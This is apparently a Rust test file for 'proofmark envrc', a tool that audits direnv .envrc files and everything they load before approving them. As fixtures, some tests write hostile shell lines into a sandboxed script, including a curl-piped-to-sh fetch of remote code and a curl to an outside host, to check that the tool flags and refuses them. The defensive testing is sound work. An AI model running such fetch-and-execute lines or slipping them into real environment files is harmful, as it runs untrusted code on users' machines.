//! `proofmark envrc allow`, `verify` and `guard`: what is approved is what was audited, with everything that it loads.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::PathBuf;
use std::process::Command;

use proofmark_envrc::store::{approval_name, denial_name};

use crate::support::{NOW, Run, Sandbox, skipped};

const HONEST: &str = "source_env scripts/env.sh\nPATH_add bin\n";

/// A folder with a file that loads another.
fn project() -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.write(".envrc", HONEST);
    sandbox.write("scripts/env.sh", "export A=1\n");
    program(&sandbox, "bin/build");
    sandbox
}

fn program(sandbox: &Sandbox, path: &str) {
    sandbox.write(path, "#!/bin/sh\ntrue\n");
    fs::set_permissions(sandbox.path(path), fs::Permissions::from_mode(0o755)).unwrap();
}

fn allow(sandbox: &Sandbox, arguments: &[&str]) -> Run {
    let words = ["envrc", "allow", "--now", NOW].into_iter().chain(arguments.iter().copied());
    sandbox.program(words).run()
}

fn verify(sandbox: &Sandbox) -> Run {
    sandbox.program(["envrc", "verify"]).run()
}

fn store(sandbox: &Sandbox) -> PathBuf {
    sandbox.dir().join("home/.local/share/direnv")
}

/// The approval that direnv would look for.
fn approval(sandbox: &Sandbox, text: &str) -> PathBuf {
    let path = sandbox.path(".envrc");
    store(sandbox).join("allow").join(approval_name(path.as_os_str().as_encoded_bytes(), text.as_bytes()))
}

#[test]
fn what_was_audited_is_approved() {
    let sandbox = project();
    let run = allow(&sandbox, &["--yes"]).exits(0);
    run.says(".envrc was not approved here before")
        .says("exports A")
        .says("can run bin/build")
        .says("approved .envrc");
    let file = approval(&sandbox, HONEST);
    assert_eq!(fs::read_to_string(&file).unwrap(), format!("{}\n", sandbox.path(".envrc").display()));
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o644);
    assert_eq!(sandbox.files("home/.local/share/direnv").len(), 1, "nothing else is left there");
    assert!(verify(&sandbox).exits(0).stdout.is_empty());
    // Nothing new the second time.
    allow(&sandbox, &["--yes"]).exits(0).says("nothing changed since it was approved on 2026-11-24");
}

#[test]
fn every_part_of_it_counts_from_then_on() {
    let sandbox = project();
    allow(&sandbox, &["--yes"]).exits(0);
    sandbox.write(
        "scripts/env.sh",
        "export A=1\nexport HTTPS_PROXY=http://proxy.acme.example:3128\ncurl -s https://x.acme.example >x\n",
    );
    program(&sandbox, "bin/git-x");
    fs::remove_file(sandbox.path("bin/build")).unwrap();
    let run = verify(&sandbox);
    run.fails_with(1, "closure-changed")
        .says("  scripts/env.sh changed\n")
        .says("  bin/build vanished\n")
        .says("  bin changed\n");
    let run = allow(&sandbox, &["--dry-run", "--fail-on", "never"]);
    run.says("it now also exports HTTPS_PROXY")
        .says("it now also runs curl")
        .says("it now also can run bin/git-x")
        .says("it no longer can run bin/build");
}

#[test]
fn what_is_found_is_not_approved() {
    let sandbox = project();
    sandbox.write("scripts/env.sh", "curl -s https://x.acme.example/i | sh\n");
    allow(&sandbox, &["--yes"]).exits(1).says("envrc-remote-code").says("was not approved: see above");
    assert!(!store(&sandbox).exists());
    sandbox.write("scripts/env.sh", "export IP=$(curl -s https://ip.acme.example)\n");
    allow(&sandbox, &["--yes"]).exits(1);
    assert!(!store(&sandbox).exists(), "a finding at the threshold");
    allow(&sandbox, &["--yes", "--fail-on", "high"]).exits(0);
    assert!(approval(&sandbox, HONEST).exists());
    verify(&sandbox).exits(0);
}

#[test]
fn nothing_is_written_without_an_answer() {
    let sandbox = project();
    let run = allow(&sandbox, &[]).exits(2);
    run.says("error[confirmation-needed]").says("proofmark envrc allow --yes .envrc");
    allow(&sandbox, &["--dry-run"]).exits(0).says("dry run: nothing was written");
    assert!(!store(&sandbox).exists() && sandbox.files("state").is_empty());
    verify(&sandbox).fails_with(1, "closure-changed").says("was not approved");
    allow(&sandbox, &["gone"]).fails_with(2, "path-unreadable");
    allow(&sandbox, &["bin"]).fails_with(2, "path-unreadable");
    fs::create_dir_all(sandbox.path("odd/.envrc")).unwrap();
    allow(&sandbox, &["odd"]).fails_with(3, "file-not-read");
}

#[test]
fn the_list_says_where_files_may_be_approved() {
    let sandbox = project();
    sandbox.write("proofmark.toml", "version = 1\n");
    let list = |path: &str| format!("[[directory]]\npath = \"{path}\"\nwhy = \"w\"\nby = \"b\"\n");
    sandbox.write("allowlists/envrc.toml", list("/elsewhere"));
    allow(&sandbox, &["--yes"]).exits(1).says("envrc-approval-outside").says("allowlists/envrc.toml");
    assert!(!store(&sandbox).exists());
    sandbox.write("allowlists/envrc.toml", list(&sandbox.path("").display().to_string()));
    allow(&sandbox, &["--yes"]).exits(0);
}

#[test]
fn a_denial_goes() {
    let sandbox = project();
    let path = sandbox.path(".envrc");
    let denial = store(&sandbox).join("deny").join(denial_name(path.as_os_str().as_encoded_bytes()));
    fs::create_dir_all(denial.parent().unwrap()).unwrap();
    fs::write(&denial, "").unwrap();
    allow(&sandbox, &["--yes"]).exits(0).says("the denial is gone");
    assert!(!denial.exists() && approval(&sandbox, HONEST).exists());
}

/// Whoever makes `allow` a link would have approvals written, or files replaced, elsewhere.
#[test]
fn no_link_in_the_store_is_followed() {
    for name in ["allow", "deny"] {
        let sandbox = project();
        let elsewhere = sandbox.dir().join("elsewhere");
        fs::create_dir_all(&elsewhere).unwrap();
        fs::create_dir_all(store(&sandbox)).unwrap();
        symlink(&elsewhere, store(&sandbox).join(name)).unwrap();
        allow(&sandbox, &["--yes"]).exits(3).says("error[store-not-changed]");
        assert_eq!(fs::read_dir(&elsewhere).unwrap().count(), 0);
        assert!(!approval(&sandbox, HONEST).exists());
    }
    // The whole of it may lie elsewhere: homes are put together so.
    let sandbox = project();
    let elsewhere = sandbox.dir().join("elsewhere");
    fs::create_dir_all(&elsewhere).unwrap();
    fs::create_dir_all(store(&sandbox).parent().unwrap()).unwrap();
    symlink(&elsewhere, store(&sandbox)).unwrap();
    allow(&sandbox, &["--yes"]).exits(0);
    assert!(approval(&sandbox, HONEST).exists());
}

#[test]
fn a_store_that_cannot_be_written_is_an_error() {
    let sandbox = project();
    fs::create_dir_all(store(&sandbox)).unwrap();
    fs::write(store(&sandbox).join("allow"), "a file").unwrap();
    allow(&sandbox, &["--yes"]).exits(3).says("error[store-not-changed]");
    let sandbox = project();
    let run = sandbox.program(["envrc", "allow", "--yes"]).variable("XDG_DATA_HOME", "relative").run();
    run.exits(3).says("XDG_DATA_HOME is relative");
    sandbox.program(["envrc", "allow", "--yes"]).without("HOME").run().fails_with(2, "direnv-home-unknown");
    fs::create_dir_all(store(&sandbox).join("allow")).unwrap();
    fs::set_permissions(store(&sandbox).join("allow"), fs::Permissions::from_mode(0o555)).unwrap();
    if fs::write(store(&sandbox).join("allow/x"), "").is_ok() {
        return skipped("writes everywhere: it is root");
    }
    allow(&sandbox, &["--yes"]).exits(3).says("error[store-not-changed]");
}

#[test]
fn what_cannot_be_looked_at_is_not_approved() {
    let sandbox = project();
    sandbox.write(".envrc", format!("{HONEST}dotenv_if_exists\n"));
    assert!(Command::new("mkfifo").arg(sandbox.path(".env")).status().unwrap().success());
    allow(&sandbox, &["--yes"]).exits(3).says("closure-unread").says("it is no regular file");
    fs::remove_file(sandbox.path(".env")).unwrap();
    // 50 MB are hashed, and 70 are not.
    let file = fs::File::create(sandbox.path(".env")).unwrap();
    file.set_len(50 << 20).unwrap();
    allow(&sandbox, &["--yes"]).exits(0);
    verify(&sandbox).exits(0);
    file.set_len(70 << 20).unwrap();
    verify(&sandbox).fails_with(3, "closure-unread");
    allow(&sandbox, &["--yes"]).exits(3);
}

#[test]
fn a_record_that_was_edited_is_none() {
    let sandbox = project();
    allow(&sandbox, &["--yes"]).exits(0);
    let [record] = sandbox.files("state").try_into().unwrap();
    let text = fs::read_to_string(&record).unwrap();
    fs::write(&record, text.replace("absent", "sha256-A").replace("\"script\"", "\"recipe\"")).unwrap();
    verify(&sandbox).fails_with(3, "state-unusable");
    fs::write(&record, "{").unwrap();
    verify(&sandbox).fails_with(3, "state-unusable");
}

/// direnv goes by the name under which a folder was entered.
#[test]
fn a_folder_that_was_entered_by_a_link_is_another_path() {
    let sandbox = project();
    let link = sandbox.dir().join("link");
    symlink(sandbox.path(""), &link).unwrap();
    let run = sandbox
        .program(["envrc", "allow", "--yes"])
        .within(link.clone())
        .variable("PWD", link.to_str().unwrap())
        .run();
    run.exits(0);
    let path = link.join(".envrc");
    let name = approval_name(path.as_os_str().as_encoded_bytes(), HONEST.as_bytes());
    assert!(store(&sandbox).join("allow").join(name).exists());
    verify(&sandbox).exits(1);
    // A variable that leads elsewhere is not believed.
    sandbox.program(["envrc", "allow", "--yes"]).variable("PWD", "/").run().exits(0);
    assert!(approval(&sandbox, HONEST).exists());
}

#[test]
fn the_guard_is_written_once_and_is_no_part_of_what_it_guards() {
    let sandbox = project();
    let config = sandbox.dir().join("home/.config/direnv");
    fs::create_dir_all(&config).unwrap();
    fs::write(config.join("direnvrc"), "x() { :; }\n").unwrap();
    allow(&sandbox, &["--yes"]).exits(0);
    let guard = |arguments: &[&str]| {
        sandbox.program(["envrc", "guard"].into_iter().chain(arguments.iter().copied())).run().exits(0)
    };
    let printed = guard(&[]).stdout;
    guard(&["--write"]).says("wrote ");
    guard(&["--write"]).says("is in place");
    let file = config.join("lib/zz-proofmark.sh");
    assert_eq!(fs::read_to_string(&file).unwrap(), printed);
    assert!(
        printed.contains(&format!("XDG_STATE_HOME='{}'", sandbox.dir().join("state").display())),
        "{printed}"
    );
    verify(&sandbox).exits(0);
    // Changed it counts as any other.
    fs::write(&file, "true\n").unwrap();
    verify(&sandbox).exits(1).says("lib/*.sh appeared");
    guard(&["--write"]);
    fs::write(config.join("direnvrc"), "x() { evil; }\n").unwrap();
    verify(&sandbox).exits(1).says("~/.config/direnv/direnvrc changed");
}

/// bash reads what the guard says as it is meant.
#[test]
fn the_guard_quotes_its_paths() {
    let sandbox = project();
    let state = sandbox.dir().join("st'ate $x");
    fs::create_dir_all(&state).unwrap();
    let run = sandbox.program(["envrc", "guard"]).variable("XDG_STATE_HOME", state.to_str().unwrap()).run();
    fs::write(sandbox.path("guard.sh"), run.exits(0).stdout).unwrap();
    let refuses = |expected: bool| {
        let mut command = Command::new("bash");
        command
            .args(["-c", "set -- source_env \"$PWD/.envrc\"; . ./guard.sh; echo loaded"])
            .current_dir(sandbox.path(""));
        let output = command
            .env_clear()
            .env("HOME", sandbox.dir().join("home"))
            .env("PATH", "/usr/bin:/bin")
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&output.stdout).into_owned();
        assert_eq!((said == "loaded\n", output.status.success()), (!expected, !expected), "{output:?}");
    };
    refuses(true);
    let run = sandbox
        .program(["envrc", "allow", "--yes"])
        .variable("XDG_STATE_HOME", state.to_str().unwrap())
        .run();
    run.exits(0);
    refuses(false);
    sandbox.write("scripts/env.sh", "export A=2\n");
    refuses(true);
}
